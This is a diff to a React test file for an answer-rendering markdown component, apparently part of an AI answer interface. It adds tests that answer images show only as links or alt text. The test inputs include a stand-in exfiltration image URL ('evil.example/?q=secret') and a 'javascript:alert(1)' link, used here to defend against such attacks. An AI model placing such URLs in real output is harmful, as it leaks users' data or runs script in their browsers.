@@ -11,7 +11,9 @@ const sources = [
 async function renderAnswer(content: string) {
   const view = render(<AnswerMarkdown content={content} sources={sources} />);
   // The renderer is lazy: wait for the real markdown output to replace the plain fallback.
-  await waitFor(() => expect(view.container.querySelector('[data-markdown]')).not.toBeNull(), { timeout: 5000 });
+  await waitFor(() => expect(view.container.querySelector('[data-markdown]')).not.toBeNull(), {
+    timeout: 5000,
+  });
   return view;
 }
 
@@ -42,12 +44,49 @@ describe('AnswerMarkdown', () => {
     expect(container.textContent).toContain('<b>');
   });
 
+  it('shows an answer image as a link to it, never as an <img> that would load by itself', async () => {
+    const { container } = await renderAnswer('See ![x](https://evil.example/?q=secret) here.');
+    expect(container.querySelector('img')).toBeNull();
+    const link = screen.getByRole('link', { name: 'x' });
+    expect(link).toHaveAttribute('href', 'https://evil.example/?q=secret');
+    expect(link).toHaveAttribute('target', '_blank');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  });
+
+  it("labels an answer image without alt text 'image'", async () => {
+    const { container } = await renderAnswer('![](http://example.com/a.png)');
+    expect(container.querySelector('img')).toBeNull();
+    expect(screen.getByRole('link', { name: 'image' })).toHaveAttribute('href', 'http://example.com/a.png');
+  });
+
+  it('shows only the alt text of answer images whose URL is not http(s)', async () => {
+    const { container } = await renderAnswer(
+      '![js](javascript:alert(1)) ![dat](data:image/png;base64,AAAA) ![mail](mailto:a@b.c) ![rel](/library/1)',
+    );
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('a')).toBeNull();
+    for (const alt of ['js', 'dat', 'mail', 'rel']) expect(screen.getByText(alt)).toBeInTheDocument();
+  });
+
+  it('keeps an image inside a link as text of that link, without nesting links', async () => {
+    const { container } = await renderAnswer('[![logo](https://cdn.example/l.png)](https://example.com)');
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('a a')).toBeNull();
+    const links = screen.getAllByRole('link');
+    expect(links).toHaveLength(1);
+    expect(links[0]).toHaveAttribute('href', 'https://example.com');
+    expect(links[0]).toHaveTextContent('logo');
+  });
+
   it('links citation markers that have a source, leaves the others as text', async () => {
     const { container } = await renderAnswer('Lava is hot [1][2]. Unknown [3]. Code `[1]`.');
     const one = screen.getByRole('link', { name: '1' });
     expect(one).toHaveAttribute('href', 'https://volcano.si.edu/');
     expect(one).toHaveAttribute('target', '_blank');
-    expect(screen.getByRole('link', { name: '2' })).toHaveAttribute('href', 'https://en.wikipedia.org/wiki/Volcano');
+    expect(screen.getByRole('link', { name: '2' })).toHaveAttribute(
+      'href',
+      'https://en.wikipedia.org/wiki/Volcano',
+    );
     expect(screen.queryByRole('link', { name: '3' })).toBeNull();
     expect(container.textContent).toContain('Unknown [3]');
     expect(container.querySelector('code')?.textContent).toBe('[1]');
